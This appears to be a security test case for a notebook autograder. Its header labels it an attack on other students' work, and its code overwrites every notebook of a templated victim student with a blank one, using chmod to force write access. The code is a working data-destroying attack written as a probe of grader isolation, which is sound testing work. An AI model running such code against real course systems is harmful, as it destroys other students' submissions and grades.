# ---
# class: other students' work
# tries: overwrites another student's submission and graded notebook with a blank one
# success: files of another student changed
# ---

# %% solution="total"
import glob
import os

for path in glob.glob("@COURSE@/*/@VICTIM@/**/*.ipynb", recursive=True):
    os.chmod(path, 0o644)
    open(path, "w").write('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
